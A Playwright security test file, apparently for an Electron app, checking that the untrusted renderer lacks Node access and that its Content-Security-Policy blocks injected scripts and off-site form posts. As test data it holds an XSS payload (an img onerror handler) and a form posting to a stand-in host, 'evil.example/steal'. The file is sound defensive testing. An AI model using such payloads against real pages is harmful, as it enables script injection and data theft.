/**
 * The renderer is untrusted (reliability.md §3): in the browser harness it has no Node, its CSP
 * stops injected scripts, and it can neither post forms away nor open windows that reach main.
 * The Electron-only denials (will-navigate, setWindowOpenHandler) are unit-tested as policy
 * functions and exercised by the electron project where a binary exists.
 */
import { test, expect } from '../fixtures';

type Probe = Record<string, unknown>;

test('the renderer cannot reach Node, run injected script, or post a form away', async ({ counter }) => {
  const page = counter;
  const probe = await page.evaluate(() => {
    const g = globalThis as unknown as Probe;
    return { require: typeof g.require, process: typeof g.process, module: typeof g.module, Buffer: typeof g.Buffer, pos: typeof g.pos, frozen: Object.isFrozen(g.pos) };
  });
  expect(probe).toEqual({ require: 'undefined', process: 'undefined', module: 'undefined', Buffer: 'undefined', pos: 'object', frozen: true });

  const csp = (await page.request.get(page.url())).headers()['content-security-policy'] ?? '';
  for (const d of ["default-src 'self'", "object-src 'none'", "frame-ancestors 'none'", "form-action 'none'", "base-uri 'none'"]) expect(csp).toContain(d);

  // Injected markup (a product name, say) cannot run script: inline handlers and inline scripts are blocked.
  const ran = await page.evaluate(async () => {
    type El = { textContent: string };
    const g = globalThis as unknown as Probe & { document: { createElement(t: string): El; body: { insertAdjacentHTML(p: string, h: string): void; appendChild(n: El): void } } };
    g.document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="globalThis.__pwned = 1">');
    const script = g.document.createElement('script');
    script.textContent = 'globalThis.__inline = 1';
    g.document.body.appendChild(script);
    await new Promise((r) => setTimeout(r, 200));
    return { handler: g.__pwned === 1, inlineScript: g.__inline === 1 };
  });
  expect(ran).toEqual({ handler: false, inlineScript: false });

  // A form posting elsewhere is blocked by form-action: the page stays where it is.
  const before = page.url();
  await page.evaluate(() => {
    const g = globalThis as unknown as { document: { createElement(t: string): { action: string; method: string; submit(): void }; body: { appendChild(n: unknown): void } } };
    const form = g.document.createElement('form');
    form.action = 'https://evil.example/steal';
    form.method = 'post';
    g.document.body.appendChild(form);
    form.submit();
  });
  await page.waitForTimeout(500);
  expect(page.url()).toBe(before);
  expect(await page.evaluate(() => (globalThis as unknown as { location: { href: string } }).location.href)).toBe(before);
});
